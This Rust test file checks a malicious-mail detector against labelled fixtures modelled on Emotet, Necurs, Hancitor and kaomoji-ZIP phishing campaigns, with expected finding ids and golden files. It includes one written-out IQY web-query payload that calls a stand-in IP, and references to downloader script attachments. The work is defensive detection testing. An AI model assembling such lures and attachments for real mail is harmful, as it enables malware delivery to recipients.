//! The labelled fixture set of `testdata/detect`: every mail type of the
//! seeds is rated malicious with its expected finding ids; the authored
//! benign Japanese business mail is rated clean. The finding ids and
//! verdicts are also kept as a golden file (`UPDATE_GOLDEN=1` rewrites it).

mod common;

use common::*;
use mozu_detect::{Config, Detectors};
use mozu_model::{MessageRecord, VerdictLevel};

/// Attachments the authored malicious mails get at test time.
fn attachments_for(name: &str) -> Vec<(&'static str, &'static str, Vec<u8>)> {
    match name {
        "03_emotet_reply.eml" => vec![(
            "見積書_1115.doc",
            "application/msword",
            mozu_office::fixtures::doc_with_macros(),
        )],
        "04_kaomoji_zip_vbs.eml" => vec![(
            "pic_123456_2020.zip",
            "application/zip",
            zip(&[("pic_123456_2020.jpg.vbs", DOWNLOADER_VBS.as_bytes())], None),
        )],
        "06_necurs_7z_js.eml" => vec![(
            "INV-00417.7z",
            "application/x-7z-compressed",
            sevenz("INV-00417.js", DOWNLOADER_JS.as_bytes()),
        )],
        "07_iqy_attachment.eml" => vec![(
            "20180806_請求書.iqy",
            "application/octet-stream",
            b"WEB\r\n1\r\nhttp://198.51.100.77/sheet.dat?a=[\"x\"]\r\n".to_vec(),
        )],
        "09_encrypted_zip_password_in_body.eml" => vec![(
            "請求書.zip",
            "application/zip",
            zip(&[("請求書.js", DOWNLOADER_JS.as_bytes())], Some("Qw7rT2")),
        )],
        _ => Vec::new(),
    }
}

/// Finding ids each malicious fixture must carry.
const EXPECTED: &[(&str, &[&str])] = &[
    (
        "01_ict_isac_spoof.eml",
        &[
            "spoof.freemail_org_name",
            "spoof.anonymous_provider",
            "lure.security_notice",
            "link.file_sharing",
        ],
    ),
    (
        "02_ntt_com_spoof.eml",
        &["spoof.freemail_org_name", "lure.security_notice", "link.file_sharing"],
    ),
    (
        "03_emotet_reply.eml",
        &[
            "thread.display_name_reused",
            "thread.sender_not_in_thread",
            "thread.reply_without_references",
            "thread.unexplained_attachment",
            "office.vba_autoexec",
        ],
    ),
    (
        "04_kaomoji_zip_vbs.eml",
        &[
            "lure.kaomoji_subject",
            "lure.kaomoji_body",
            "lure.empty_body_archive",
            "attach.code_in_archive",
        ],
    ),
    (
        "05_cutwail_link_zip.eml",
        &[
            "spoof.display_name_org",
            "link.download",
            "link.ip_host",
            "lure.delivery",
        ],
    ),
    (
        "06_necurs_7z_js.eml",
        &[
            "lure.payment",
            "lure.document",
            "lure.empty_body_archive",
            "attach.code_in_archive",
        ],
    ),
    ("07_iqy_attachment.eml", &["attach.web_query", "lure.payment"]),
    (
        "08_hancitor_html_receipt.eml",
        &[
            "spoof.display_name_org",
            "lookalike.sender_typo",
            "link.text_mismatch",
            "lure.payment",
        ],
    ),
    (
        "09_encrypted_zip_password_in_body.eml",
        &["archive.password_in_mail", "attach.code_in_archive", "lure.urgency"],
    ),
];

fn load(dir: &str) -> Vec<(String, Vec<u8>)> {
    let path = repo().join("testdata/detect").join(dir);
    let mut files: Vec<_> = std::fs::read_dir(&path).unwrap().flatten().map(|e| e.path()).collect();
    files.sort();
    files
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "eml"))
        .map(|p| {
            let name = p.file_name().unwrap().to_string_lossy().to_string();
            let text = std::fs::read_to_string(&p).unwrap();
            let atts = attachments_for(&name);
            let raw = if atts.is_empty() {
                text.replace('\n', "\r\n").into_bytes()
            } else {
                with_attachments(&text, &atts)
            };
            (name, raw)
        })
        .collect()
}

fn summary(name: &str, rec: &MessageRecord) -> String {
    let v = rec.verdict.unwrap();
    let mut ids: Vec<String> = rec.findings.iter().map(|f| format!("{}={}", f.id, f.score)).collect();
    ids.sort();
    format!("{name} {} {} [{}]\n", v.level.as_str(), v.score, ids.join(" "))
}

#[test]
fn malicious_fixtures_are_malicious_with_expected_findings() {
    let det = Detectors::new(&Config::default()).unwrap();
    let mut golden = String::new();
    let mut ran = 0;
    for (name, raw) in load("malicious") {
        let rec = scan(&raw, &name, &det);
        golden.push_str(&summary(&name, &rec));
        let ids: Vec<&str> = rec.findings.iter().map(|f| f.id.as_str()).collect();
        let expected = EXPECTED
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, e)| *e)
            .unwrap_or_else(|| panic!("no expectation for {name}"));
        for e in expected {
            assert!(ids.contains(e), "{name}: missing {e}; have {ids:?}");
        }
        assert_eq!(
            rec.verdict.unwrap().level,
            VerdictLevel::Malicious,
            "{name}: {ids:?} score {}",
            rec.verdict.unwrap().score
        );
        for f in &rec.findings {
            assert!(
                !f.evidence.is_empty() || f.id == "spoof.no_sender",
                "{name}: {} has no evidence",
                f.id
            );
        }
        ran += 1;
    }
    assert_eq!(ran, EXPECTED.len());
    check_golden("malicious.golden", &golden);
}

#[test]
fn authored_benign_mail_is_clean() {
    let det = Detectors::new(&Config::default()).unwrap();
    let mut golden = String::new();
    let mut ran = 0;
    for (name, raw) in load("benign") {
        let rec = scan(&raw, &name, &det);
        golden.push_str(&summary(&name, &rec));
        assert_eq!(
            rec.verdict.unwrap().level,
            VerdictLevel::Clean,
            "{}",
            summary(&name, &rec)
        );
        ran += 1;
    }
    assert!(ran >= 10, "benign fixtures ran: {ran}");
    check_golden("benign.golden", &golden);
}

fn check_golden(file: &str, got: &str) {
    let path = repo().join("testdata/detect").join(file);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, got).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(want, got, "golden {file} differs (UPDATE_GOLDEN=1 to accept)");
}
